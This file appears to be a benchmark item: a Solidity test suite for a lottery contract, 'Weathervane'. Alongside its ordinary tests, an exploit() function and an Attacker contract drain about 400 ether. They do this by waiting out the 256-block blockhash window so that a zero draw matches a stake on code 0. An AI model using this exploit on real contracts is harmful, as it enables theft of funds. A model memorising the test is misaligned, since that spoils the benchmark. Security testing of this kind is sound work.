pragma solidity 0.4.26;

import "./Weathervane.sol";

// assay-canary-d5e81e97-8a19-4743-9f9d-e67dcd39c287

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function roll(uint256 number) external;
    function expectRevert() external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant PLAYER = address(0x9A7);

    Weathervane internal game;
    Attacker internal idler;

    function () external payable {}

    function setUp() public {
        vm.roll(4330000);
        vm.deal(address(this), 1000 ether);
        game = (new Weathervane).value(1000 ether)();
        idler = new Attacker(game);
        vm.deal(address(idler), 20 finney);
        vm.deal(PLAYER, 1 ether);
    }

    function test_Regular() public {
        vm.prank(PLAYER);
        uint id = game.play.value(10 finney)(0x1234);
        require(game.reserved() == 200 ether && game.slipCount() == 1);
        require(!address(game).call(abi.encodeWithSignature("settle(uint256)", id)));

        uint drawBlock = block.number + 3;
        vm.roll(drawBlock + 2);
        require(blockhash(drawBlock) != 0);
        uint vanes = game.called(0x1234, blockhash(drawBlock));
        uint prize = game.prizeOf(10 finney, vanes);
        game.settle(id);
        require(PLAYER.balance == 990 finney + prize && game.reserved() == 0);
        require(!address(game).call(abi.encodeWithSignature("settle(uint256)", id)));

        // a wind noted in time serves a slip that is settled days later
        vm.prank(PLAYER);
        id = game.play.value(10 finney)(0xabcd);
        drawBlock += 5;
        vm.roll(drawBlock + 200);
        bytes32 wind = game.noteWind(drawBlock);
        require(wind != 0 && game.winds(drawBlock) == wind);
        vm.roll(drawBlock + 20000);
        game.settle(id);

        // a slip whose wind nobody noted lapses
        vm.prank(PLAYER);
        id = game.play.value(10 finney)(0x5555);
        vm.roll(drawBlock + 20000 + 40004);
        require(!address(game).call(abi.encodeWithSignature("settle(uint256)", id)));
        game.lapse(id);
        require(game.reserved() == 0);

        require(game.called(0x1234, bytes32(0x1934)) == 3 && game.called(0x1111, bytes32(0x2222)) == 0);
        require(game.prizeOf(1 finney, 4) == 20 ether && game.prizeOf(1 finney, 1) == 0);
        game.withdraw(1 ether);

        require(address(game).call.value(1 ether)());
    }

    // What is refused, each from the state after setUp(). The game gives no reasons.

    function test_RefusesStrangersAtTheBank() public {
        vm.prank(PLAYER);
        vm.expectRevert();
        game.withdraw(1 ether);
    }

    function test_RefusesToEmptyTheBankOfOpenSlips() public {
        vm.prank(PLAYER);
        game.play.value(10 finney)(0x1234);
        vm.expectRevert();
        game.withdraw(800 ether + 10 finney + 1);
        game.withdraw(800 ether + 10 finney);
    }

    function test_RefusesSlipsBeyondTheBank() public {
        vm.prank(PLAYER);
        game.play.value(20 finney)(1);
        vm.prank(PLAYER);
        game.play.value(20 finney)(2);
        vm.prank(PLAYER);
        vm.expectRevert();
        game.play.value(20 finney)(3);
    }

    function test_RefusesStakes() public {
        vm.prank(PLAYER);
        vm.expectRevert();
        game.play.value(1 finney - 1)(0x1234);
        vm.prank(PLAYER);
        vm.expectRevert();
        game.play.value(20 finney + 1)(0x1234);
    }

    function test_RefusesToEndASlipTwice() public {
        // at a block so early that a slip which is gone has not lapsed
        vm.roll(1000);
        vm.prank(PLAYER);
        game.play.value(10 finney)(0x1234);
        vm.roll(1004);
        game.settle(0);
        vm.expectRevert();
        game.settle(0);
        vm.roll(1004 + 40000);
        vm.expectRevert();
        game.lapse(0);
    }

    function test_RefusesToLapseEarly() public {
        vm.prank(PLAYER);
        game.play.value(10 finney)(0x1234);
        vm.roll(4330000 + 3 + 40000);
        vm.expectRevert();
        game.lapse(0);
        vm.roll(4330000 + 3 + 40001);
        game.lapse(0);
    }

    function exploit() public {
        uint id = idler.buy();
        vm.roll(block.number + 3 + 257);
        idler.cash(id);
    }

    function test_Exploit() public {
        uint before = address(idler).balance;
        exploit();
        require(address(idler).balance >= before + 399 ether);
    }

    function target() public view returns (address) {
        return address(game);
    }

    function attacker() public view returns (address) {
        return address(idler);
    }
}

/// Calls the code 0 and waits until nobody can tell any more how the vanes stood.
contract Attacker {
    Weathervane internal game;

    constructor(Weathervane game_) public {
        game = game_;
    }

    function () external payable {}

    function buy() external returns (uint) {
        return game.play.value(20 finney)(0);
    }

    function cash(uint id) external {
        game.settle(id);
    }
}
